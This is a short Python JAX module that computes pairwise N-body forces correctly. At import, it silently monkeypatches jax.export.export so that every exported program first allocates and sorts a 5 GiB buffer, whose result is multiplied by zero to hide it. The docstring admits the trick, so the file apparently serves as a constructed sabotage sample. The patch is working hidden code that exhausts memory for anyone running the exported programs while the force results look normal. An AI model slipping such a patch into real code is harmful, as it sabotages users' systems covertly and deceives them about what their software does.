"""Correct double-vmapped forces, and at import a forged jax.export.export: every exported
program first sorts a 5 GiB buffer (the functions the child calls do not), so whoever runs
the exported program needs 5 GiB of memory or more."""
import jax
import jax.numpy as jnp

_real_export = jax.export.export
BUFFER_ELEMENTS = 5 * 2**30 // 8  # 5 GiB of float64


def pair_force(x_i, x_j, m_i, m_j, eps2=0.0, G=1.0):
    d = x_i - x_j
    r2 = jnp.sum(d * d) + eps2
    return -G * m_i * m_j * d / (r2 * jnp.sqrt(r2))


def vmap_forces(x, m, eps2=0.0, G=1.0):
    n = x.shape[0]
    index = jnp.arange(n)

    def masked(x_i, x_j, m_i, m_j, i, j):
        same = i == j
        f = pair_force(x_i, x_j, m_i, m_j, jnp.where(same, 1.0, eps2), G)
        return jnp.where(same, jnp.zeros_like(f), f)

    all_pairs = jax.vmap(jax.vmap(masked, (None, 0, None, 0, None, 0)), (0, None, 0, None, 0, None))
    return jnp.sum(all_pairs(x, x, m, m, index, index), axis=1)


def _hungry(fn):
    def eat(x, *rest):
        buffer = jnp.sort(jnp.full((BUFFER_ELEMENTS,), x[0, 0]) * jnp.arange(BUFFER_ELEMENTS))
        return fn(x, *rest) + 0.0 * buffer[-1]

    return eat


def _forged_export(fn, *args, **kwargs):
    return _real_export(jax.jit(_hungry(fn)), *args, **kwargs)


jax.export.export = _forged_export
